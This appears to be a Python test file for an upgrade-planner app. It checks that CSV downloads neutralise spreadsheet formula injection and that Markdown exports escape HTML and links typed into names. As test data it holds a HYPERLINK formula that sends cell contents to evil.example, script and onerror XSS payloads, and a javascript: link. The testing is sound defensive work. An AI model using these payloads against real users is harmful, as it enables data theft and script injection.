"""What the plan's downloads do with names people typed: the inventory CSV and the checklist CSV
never start a spreadsheet formula, the inventory CSV still uploads again as it was, and the
Markdown checklist shows names as text, never as HTML, a link or an image."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import create_plan, tentacle
from tests.sync.helpers import inventory_of
from upgrade_planner.domain.evidence import parse_evidence
from upgrade_planner.domain.inventory import parse_csv, to_csv
from upgrade_planner.domain.planner import TentacleInput
from upgrade_planner.domain.spreadsheet import FORMULA_STARTS, formula_restored, formula_safe
from upgrade_planner.plans import services
from upgrade_planner.plans.exports import markdown_text
from upgrade_planner.plans.models import Plan

FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def starts_a_formula(cell: str) -> bool:
    return cell[:1] != "" and cell[0] in FORMULA_STARTS


# --- The shared rule -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # an apostrophe of the value's own is kept on the way back
        ("'quoted'", "'quoted'"),
        ("web-01", "web-01"),
        ("", ""),
    ],
)
def test_a_cell_that_starts_a_formula_is_written_with_an_apostrophe(value, written):
    assert formula_safe(value) == written
    assert formula_restored(written) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab "), max_size=8) | st.text(max_size=20))
def test_any_value_is_read_back_as_written_and_never_starts_a_formula(value):
    written = formula_safe(value)

    assert not starts_a_formula(written)
    assert formula_restored(written) == value


# --- The inventory download ------------------------------------------------------------------


def plan_with_formula_names() -> services.CreatedPlan:
    return create_plan(
        tentacles=(
            *(
                tentacle(f"web-0{index}", os=name, environments=(name, "Production"))
                for index, name in enumerate(FORMULA_NAMES, start=1)
            ),
            tentacle("=web-05", hostname="web-05.corp"),
        )
    )


@pytest.mark.django_db
def test_the_inventory_download_starts_no_cell_with_a_formula(client):
    created = plan_with_formula_names()

    response = client.get(f"/p/{created.edit_token}/inventory.csv")

    rows = cells(response.content.decode())
    assert response.status_code == 200
    written = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in written if starts_a_formula(cell)]
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["'=web-05"][1] == "web-05.corp"
    assert by_name["web-01"][7] == "'" + FORMULA_NAMES[0]
    assert by_name["web-03"][5] == "'-2+3;Production"


@pytest.mark.django_db
def test_a_downloaded_inventory_uploads_again_unchanged(client):
    created = plan_with_formula_names()
    plan, token = created.plan, created.edit_token
    downloaded = client.get(f"/p/{token}/inventory.csv").content

    assert parse_csv(downloaded) == inventory_of(plan)
    response = client.put(f"/api/v1/plans/{token}/tentacles", downloaded, content_type="text/csv")
    assert response.status_code == 200
    assert (response.json()["added"], response.json()["removed"], response.json()["changed"]) == (
        0,
        0,
        0,
    )
    assert response.json()["version"] == plan.version
    assert inventory_of(plan) == inventory_of(Plan.objects.get(pk=plan.pk))


def test_a_downloaded_inventory_pasted_as_evidence_names_the_machines_as_they_are():
    paste = to_csv([TentacleInput(name="=web-01", version="3.17.14")])

    report = parse_evidence(paste)

    assert [(m.name, m.version) for m in report.machines] == [("=web-01", "3.17.14")]


# --- The checklist exports -------------------------------------------------------------------


@pytest.mark.django_db
def test_the_checklist_csv_starts_no_cell_with_a_formula(client):
    created = create_plan(tentacles=(tentacle("-2+3", hostname="calc.corp"), tentacle("web-02")))

    response = client.get(f"/api/v1/plans/{created.view_token}/export.csv")

    rows = cells(response.content.decode())
    assert not [cell for row in rows for cell in row if starts_a_formula(cell)]
    tentacle_column = rows[0].index("tentacle")
    assert "'-2+3" in {row[tentacle_column] for row in rows[1:]}


HOSTILE_NAMES = (
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
)


@pytest.mark.django_db
def test_the_markdown_checklist_shows_html_and_links_in_names_as_text(client):
    created = create_plan(
        name="<script>alert(1)</script> *Prod*\n# Hijacked",
        can_provision_new_server=False,  # in place: a step per Tentacle, titled with its name
        tentacles=tuple(
            tentacle(name, hostname="")  # no hostname: the steps are titled with the name
            for name in HOSTILE_NAMES
        ),
    )

    markdown = client.get(f"/api/v1/plans/{created.view_token}/export.md").content.decode()

    assert "<" not in markdown
    assert "](" not in markdown.replace("\\](", "")
    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown
    assert "\\[x\\](javascript:alert(1))" in markdown
    assert "\\!\\[x\\](http://evil.example/pixel.png)" in markdown
    assert (
        markdown.splitlines()[0]
        == "# &lt;script&gt;alert(1)&lt;/script&gt; \\*Prod\\* \\# Hijacked"
    )
    assert [line for line in markdown.splitlines() if line.startswith("# ")] == [
        markdown.splitlines()[0]
    ]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("web_01 *new* `x` ~old~ a|b", "web\\_01 \\*new\\* \\`x\\` \\~old\\~ a\\|b"),
        ("R&D <b>", "R&amp;D &lt;b&gt;"),
        ("back\\slash", "back\\\\slash"),
        ("one\ntwo\r\nthree\u2028four", "one two three four"),
        ("Upgrade web-01 (2.6.5 → 3.17.14).", "Upgrade web-01 (2.6.5 → 3.17.14)."),
    ],
)
def test_markdown_text_escapes_what_markdown_and_html_would_read(text, shown):
    assert markdown_text(text) == shown
